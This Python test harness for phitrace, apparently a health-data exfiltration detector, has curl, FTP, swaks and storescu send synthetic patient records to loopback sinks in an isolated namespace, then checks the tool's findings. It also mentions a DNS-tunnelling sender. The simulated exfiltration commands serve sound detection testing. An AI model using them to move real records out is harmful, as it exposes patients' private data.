#!/usr/bin/env python3
"""make test-live: real clients from Debian's packages send synthetic PHI inside a private
network namespace (unshare -n: loopback only, nothing leaves it) while tcpdump records;
phitrace must report exactly what was sent: the files by hash, the patients by count, the
destinations, and the verdict.

    curl     POSTs a CSV export to an HTTP sink          (127.0.0.2:8080)
    curl     uploads an HL7 batch by FTP (EPSV/PASV)     (pyftpdlib, 127.0.0.4:2121)
    swaks    mails a clinic note as an attachment        (SMTP sink, 127.0.0.3:2525)
    storescu sends a DICOM study to storescp             (127.0.0.5:11112)

Then the real-client matrix of live_matrix.py is recorded into a capture of its own: lftp,
curl, python ftplib and wget against pyftpdlib and vsftpd (passive and active); curl, wget,
python urllib and requests and a raw HTTP/0.9 request against nginx and python http.server
(POST, multipart, PUT, chunked, GET); swaks, msmtp and python smtplib against aiosmtpd and
the SMTP sink (attachments with RFC 2231 names). Each transfer must come out exactly:
protocol, user, file name, size, SHA-256 and direction.

Then live_more.py's rows in a third capture: smbclient against smbd (put, get, and an
encrypted share), storescu/getscu/movescu against dcmqrscp, python-hl7's mllp_send and socat
against an MLLP listener, a dnscat2-style sender and base32/base64url label encoders through
dnsmasq (rows whose program is missing or cannot run here are skipped with the reason).

Then live_logs.py's scenario (issue 14): nginx's access log, dnsmasq's query log and the
NetFlow v9 that softflowd exports to nfcapd about a known exfiltration, analyzed alone, with
the capture, and the capture alone.

Home network: 127.0.0.1/32, so the sinks are outside it. Needs root; without it the test
says so and exits 0 (skipped). Ends with the plain "N passed, N failed" line.

    run_live.py [--only base,matrix,more,logs]    the parts to record and check (default: all)
"""
import hashlib
import os
import shutil
import socketserver
import subprocess
import sys
import tempfile
import threading
import time

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, HERE)
import live_matrix  # noqa: E402
import live_more  # noqa: E402
import live_logs  # noqa: E402
ROOT = os.path.dirname(os.path.dirname(HERE))
BIN = os.path.abspath(os.environ.get("PHITRACE", os.path.join(ROOT, "phitrace")))
# Debian's interpreter, which sees the python3-* packages (a pyenv shim may not)
PY = "/usr/bin/python3" if os.path.exists("/usr/bin/python3") else sys.executable


# ---- sinks (run inside the namespace) -----------------------------------------------------

class HTTPSink(socketserver.StreamRequestHandler):
    def handle(self):
        head = b""
        while b"\r\n\r\n" not in head:
            chunk = self.request.recv(65536)
            if not chunk:
                return
            head += chunk
        h, _, body = head.partition(b"\r\n\r\n")
        n = 0
        for line in h.split(b"\r\n"):
            if line.lower().startswith(b"content-length:"):
                n = int(line.split(b":")[1])
        while len(body) < n:
            chunk = self.request.recv(65536)
            if not chunk:
                break
            body += chunk
        self.wfile.write(b"HTTP/1.1 201 Created\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")


class SMTPSink(socketserver.StreamRequestHandler):
    def handle(self):
        w = self.wfile.write
        w(b"220 sink ESMTP\r\n")
        data = False
        while True:
            try:
                line = self.rfile.readline()
            except ConnectionError:  # a client that resets instead of QUIT
                return
            if not line:
                return
            if data:
                if line == b".\r\n":
                    data = False
                    w(b"250 queued\r\n")
                continue
            cmd = line[:4].upper()
            if cmd in (b"EHLO", b"HELO"):
                w(b"250 sink\r\n")
            elif cmd == b"DATA":
                data = True
                w(b"354 go ahead\r\n")
            elif cmd == b"QUIT":
                w(b"221 bye\r\n")
                return
            else:
                w(b"250 ok\r\n")


class Server(socketserver.ThreadingMixIn, socketserver.TCPServer):
    allow_reuse_address = True
    daemon_threads = True


def inner(work, parts):
    """Inside `unshare -n`: bring up loopback, record, run the sinks and the clients."""
    run = lambda *a, **k: subprocess.run(*a, check=True, timeout=120, **k)
    run(["ip", "link", "set", "lo", "up"])
    tcp = live_matrix.start_tcpdump(os.path.join(work, "cap.pcap"),
                                    os.path.join(work, "tcpdump.err"))
    time.sleep(0.3)
    for addr, handler in ((("127.0.0.2", 8080), HTTPSink), (("127.0.0.3", 2525), SMTPSink)):
        srv = Server(addr, handler)
        threading.Thread(target=srv.serve_forever, daemon=True).start()
    os.makedirs(os.path.join(work, "ftp"), exist_ok=True)
    os.makedirs(os.path.join(work, "pacs"), exist_ok=True)
    ftp = subprocess.Popen([PY, "-m", "pyftpdlib", "-i", "127.0.0.4", "-p", "2121",
                            "-w", "-d", os.path.join(work, "ftp"), "-u", "export", "-P",
                            "export"], stderr=subprocess.DEVNULL, stdout=subprocess.DEVNULL)
    scp = subprocess.Popen(["storescp", "-od", os.path.join(work, "pacs"), "-aet", "PACS",
                            "--fork", "11112"], stderr=subprocess.DEVNULL)
    time.sleep(1.0)
    data = os.path.join(work, "data")
    if "base" in parts:
        base_clients(run, data)
    tcp.send_signal(2)
    tcp.wait(timeout=30)
    if "matrix" in parts:
        live_matrix.inner(work)  # its own capture; uses the FTP server and the SMTP sink above
    if "more" in parts:
        live_more.inner(work, data)
    if "logs" in parts:
        live_logs.inner(work, data, HTTPSink, Server)
    ftp.terminate()
    scp.terminate()


def base_clients(run, data):
    run(["curl", "-sS", "--data-binary", "@" + os.path.join(data, "exports/patients.csv"),
         "-H", "Content-Type: text/csv", "http://127.0.0.2:8080/upload"])
    run(["curl", "-sS", "-T", os.path.join(data, "hl7/adt_batch.hl7"), "--user",
         "export:export", "ftp://127.0.0.4:2121/"])
    run(["swaks", "--server", "127.0.0.3", "--port", "2525", "--from",
         "frontdesk@radgroup.example", "--to", "records@outside.example", "--header",
         "Subject: follow-up", "--body", "See the attached note.", "--attach-type",
         "text/plain", "--attach-name", "note_00.txt", "--attach",
         "@" + os.path.join(data, "notes/note_00.txt")], stdout=subprocess.DEVNULL)
    run(["storescu", "-aet", "MODALITY", "-aec", "PACS", "127.0.0.5", "11112",
         os.path.join(data, "dicom/IMG00.dcm")])
    time.sleep(1.0)


# ---- the check (outside the namespace) -------------------------------------------------------

def check(work, parts):
    passed, failed = [], []

    def expect(name, ok, detail=""):
        (passed if ok else failed).append(name)
        print("%s  %s%s" % ("PASS" if ok else "FAIL", name, "" if ok else ": " + str(detail)))

    if "base" in parts:
        check_base(work, expect)
    if "matrix" in parts:
        live_matrix.check(work, BIN, expect)
    if "more" in parts:
        live_more.check(work, BIN, expect, live_matrix.analyze)
    if "logs" in parts:
        live_logs.check(work, BIN, expect)
    print("live: %d passed, %d failed" % (len(passed), len(failed)))
    return not failed


def check_base(work, expect):
    case = os.path.join(work, "case")
    con = live_matrix.analyze(BIN, os.path.join(work, "cap.pcap"), case, "", expect)
    data = os.path.join(work, "data")
    sha = lambda rel: hashlib.sha256(open(os.path.join(data, rel), "rb").read()).hexdigest()
    up = {r[0]: (r[1], r[2]) for r in con.execute(
        "SELECT sha256, protocol, direction FROM object WHERE direction = 'upload'")}
    for rel, proto in (("exports/patients.csv", "http"), ("hl7/adt_batch.hl7", "ftp"),
                       ("notes/note_00.txt", "smtp")):
        expect("%s left by %s, byte-identical" % (rel, proto),
               up.get(sha(rel)) == (proto, "upload"), sorted(set(v for v in up.values())))
    # DICOM: the data set storescp received equals the one phitrace stored (Part 10 rebuilt)
    rows = con.execute("SELECT sha256 FROM dicom_message WHERE command = 'C-STORE-RQ'"
                       ).fetchall()
    import struct

    def dataset(b):
        return b[144 + struct.unpack("<I", b[140:144])[0]:]
    pacs = [os.path.join(work, "pacs", f) for f in os.listdir(os.path.join(work, "pacs"))]
    stored = subprocess.run([BIN, "export-object", case, rows[0][0]], capture_output=True
                            ).stdout if len(rows) == 1 else b""
    same = len(rows) == 1 and len(pacs) == 1 and dataset(stored) == dataset(
        open(pacs[0], "rb").read())
    expect("DICOM study sent by storescu, data set identical to storescp's", same, rows)
    dest = sorted(r[0] for r in con.execute("SELECT destination FROM exfil_event WHERE verdict"
                                            " = 'confirmed'"))
    expect("confirmed destinations", dest == ["127.0.0.2", "127.0.0.3", "127.0.0.4",
                                              "127.0.0.5"], dest)
    overall = con.execute("SELECT verdict FROM verdict WHERE scope = 'overall'").fetchone()
    expect("overall verdict confirmed", overall == ("confirmed",), overall)
    # patients: CSV 0-19, HL7 30-39, note 20, DICOM 40 (tests/phi/gen_labelled.py)
    ind = con.execute("SELECT estimate FROM individuals WHERE scope = 'outbound'").fetchone()
    expect("individuals whose data left: 32", ind == (32,), ind)


def main():
    if len(sys.argv) == 4 and sys.argv[1] == "--inner":
        inner(sys.argv[2], sys.argv[3].split(","))
        return 0
    parts = ["base", "matrix", "more", "logs"]
    if len(sys.argv) == 3 and sys.argv[1] == "--only":
        parts = [p for p in sys.argv[2].split(",") if p in parts]
    if "logs" in parts and live_logs.missing():
        print("SKIP  logs: %s not installed (Debian packages nginx-light, dnsmasq-base, softflowd, "
              "nfdump)" % ", ".join(live_logs.missing()))
        parts.remove("logs")
    if os.geteuid() != 0:
        print("test-live: skipped: needs root for unshare -n (a private network namespace)")
        print("live: 0 passed, 0 failed")
        return 0
    missing = [t for t in ("unshare", "ip", "tcpdump", "curl", "swaks", "storescu", "storescp")
               if shutil.which(t) is None]
    missing += [m for m in live_matrix.missing() if m not in missing]
    if missing:
        print("test-live: missing %s; run make deps" % ", ".join(missing))
        return 1
    if subprocess.run(["unshare", "-n", "true"], capture_output=True).returncode != 0:
        print("test-live: skipped: this machine refuses a private network namespace "
              "(unshare -n) even to root")
        print("live: 0 passed, 0 failed")
        return 0
    work = tempfile.mkdtemp(prefix="phitrace-live-")
    subprocess.run([sys.executable, os.path.join(ROOT, "tests/phi/gen_labelled.py"),
                    os.path.join(work, "data"), os.path.join(work, "labels.json")], check=True)
    if "more" in parts:
        live_more.pip_pynetdicom(work)
    r = subprocess.run(["unshare", "-n", sys.executable, os.path.abspath(__file__), "--inner",
                        work, ",".join(parts)], timeout=900)
    if r.returncode != 0:
        print("test-live: the recording inside the namespace failed")
        return 1
    ok = check(work, parts)
    if ok:
        shutil.rmtree(work, ignore_errors=True)
    return 0 if ok else 1


if __name__ == "__main__":
    sys.exit(main())
